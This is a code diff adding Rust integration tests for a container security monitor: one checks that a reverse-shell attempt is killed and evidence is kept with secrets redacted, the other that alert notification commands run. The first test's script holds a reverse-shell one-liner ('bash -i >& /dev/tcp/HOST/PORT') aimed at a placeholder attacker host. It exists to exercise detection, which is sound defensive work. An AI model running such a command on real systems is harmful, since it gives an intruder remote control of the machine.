@@ -3,8 +3,10 @@
 
 #![expect(clippy::unwrap_used, reason = "what fails here is a test")]
 
+use std::fs;
 use std::io::{BufRead, BufReader, Write};
 use std::net::{Ipv4Addr, SocketAddrV4, TcpStream};
+use std::os::unix::fs::{MetadataExt, PermissionsExt};
 use std::path::Path;
 use std::process::Command;
 use std::sync::Arc;
@@ -13,9 +15,10 @@ use std::sync::atomic::{AtomicUsize, Ordering};
 use coi_tests::attacker::{fill, serve};
 use coi_tests::incus::{self, bridge, cgroups};
 use coi_tests::{
-    Cgroup, Coi, DEFAULT, Gate, Running, TINY, Viewer, actions, alerts, audit, end, eventually, fired,
+    Attacker, Cgroup, Coi, DEFAULT, Gate, Running, TINY, Viewer, actions, alerts, audit, end, eventually, fired,
 };
 use serde_json::Value;
+use sha2::{Digest, Sha256};
 
 /// A rule about a file of this name.
 fn tripwire(id: &str, severity: &str, action: &str) -> String {
@@ -210,10 +213,91 @@ fn what_cannot_be_frozen_is_killed() {
     drop(no_freeze);
 }
 
+#[test]
+fn evidence_is_kept_before_a_kill() {
+    let coi = Coi::new();
+    let name = coi.container();
+    let attacker = Attacker::on_bridge();
+    let gate = Gate::new(&coi, "gate");
+    // Somebody else there has a secret in his arguments.
+    let script = "bash -c 'sleep 1000; :' x --password=hunter2hunter2 & exec 7</etc/hostname; read x <gate; \
+                  bash -i >& /dev/tcp/HOST/PORT 0>&1";
+    let run = coi.start(&["run", "--image", DEFAULT, "--", "bash", "-c", &attacker.fill(script)]);
+    gate.reached().open();
+    coi.assert_killed(run.finish(), "reverse-shell-socket");
+    let records = coi.audit(&name);
+    let alert = alerts(&records).find(|alert| alert["coi"]["action"]["name"] == "kill").unwrap();
+    let kept = &alert["coi"]["action"]["evidence"];
+    let file = Path::new(kept["file"].as_str().unwrap());
+    let text = fs::read(file).unwrap();
+    let digest: String = Sha256::digest(&text).iter().map(|byte| format!("{byte:02x}")).collect();
+    assert_eq!((&kept["sha256"], &kept["bytes"]), (&digest.into(), &text.len().into()));
+    let mode = fs::metadata(file).unwrap();
+    assert_eq!((mode.uid(), mode.permissions().mode() & 0o007), (0, 0));
+    let said: Value = serde_json::from_slice(&text).unwrap();
+    assert_eq!((&said["rule"]["id"], &said["coi"]["clock"]), (&alert["rule"]["id"], &alert["coi"]["clock"]));
+    assert_eq!((&said["found"]["frozen"], &said["found"]["complete"]), (&true.into(), &true.into()));
+    let processes = said["found"]["processes"].as_array().unwrap();
+    let remote = attacker.address.to_string();
+    let shell = processes.iter().find(|process| {
+        process["sockets"].as_array().unwrap().iter().any(|socket| socket["remote"] == remote.as_str())
+    });
+    let shell = shell.unwrap_or_else(|| panic!("no socket to {remote}: {said:#}"));
+    assert!(shell["stdio"][0].as_str().unwrap().ends_with(&format!("tcp {remote}")), "{shell:#}");
+    assert_eq!(shell["working_directory"], "/workspace");
+    let opens = |process: &&Value| {
+        process["files"].as_array().unwrap().iter().any(|file| file["path"].as_str().unwrap().ends_with("/etc/hostname"))
+    };
+    assert!(processes.iter().any(|process| opens(&process)), "{said:#}");
+    let args = |process: &Value| process["args"].to_string();
+    assert!(processes.iter().any(|process| args(process).contains("--password=[redacted]")), "{said:#}");
+    assert!(!String::from_utf8_lossy(&text).contains("hunter2"));
+    let actions: Vec<_> = said["events"].as_array().unwrap().iter().map(|event| event["event"]["action"].clone()).collect();
+    assert!(actions.contains(&"exec".into()) && actions.contains(&"connect".into()), "{actions:?}");
+
+    let listed = coi.coi(&["audit", "evidence", &name]).expect(0).text();
+    assert!(listed.contains("reverse-shell-socket: ") && listed.lines().count() == 1, "{listed}");
+    let id = alert["coi"]["clock"].to_string();
+    assert_eq!(coi.coi(&["audit", "evidence", &name, &id]).expect(0).stdout, text);
+    coi.coi(&["audit", "evidence", &name, "1"]).expect(5).says("there is no evidence 1 of");
+}
+
+#[test]
+fn who_is_to_be_told_is_told() {
+    let directory = tempfile::tempdir().unwrap();
+    let told = directory.path().join("told");
+    let config = directory.path().join("config.toml");
+    let sinks = format!(
+        "[[notify]]\nseverity = \"high\"\ncommand = [\"/bin/sh\", \"-c\", \"id -u >>{0}; cat >>{0}\"]\nuser = \"root\"\n\
+         [[notify]]\ncommand = [\"/bin/false\"]\n[[notify]]\ndesktop = true\n",
+        told.display()
+    );
+    fs::write(&config, sinks).unwrap();
+    let coi = Coi::with_daemon(&["--config", config.to_str().unwrap()]);
+    coi.user_rules("trip.toml", &(tripwire("told", "high", "notify") + &tripwire("mild", "warning", "notify")));
+    coi.write("told", "");
+    coi.write("mild", "");
+    let cgroup = Cgroup::make("told");
+    coi.coi(&["monitor", "--cgroup", cgroup.path().to_str().unwrap(), "--respond", "--detach"]).expect(0);
+    end(cgroup.command(": <mild; : <told").current_dir(coi.workspace())).expect(0);
+    let read = || fs::read_to_string(&told).unwrap_or_default();
+    eventually("the command was run", || read().ends_with("}\n"));
+    let (uid, line) = read().split_once('\n').map(|(uid, line)| (uid.to_owned(), line.to_owned())).unwrap();
+    assert_eq!((uid.as_str(), line.lines().count()), ("0", 1), "{line}");
+    let alert: Value = serde_json::from_str(&line).unwrap();
+    assert_eq!((&alert["rule"]["id"], &alert["coi"]["record"]), (&"told".into(), &"alert".into()));
+    // What could not tell is told.
+    let complaint = "an alert could not be told by the command /bin/false: /bin/false ended with exit code 1";
+    eventually("the failures are written down", || {
+        let records = coi.audit(&cgroup.name());
+        audit::of_kind(&records, "note").filter(|note| note["coi"]["message"] == complaint).count() == 2
+    });
+}
+
 /// Rules in a directory, for a daemon.
 fn rules(text: &str) -> tempfile::TempDir {
     let directory = tempfile::tempdir().unwrap();
-    std::fs::write(directory.path().join("rules.toml"), text).unwrap();
+    fs::write(directory.path().join("rules.toml"), text).unwrap();
     directory
 }
 
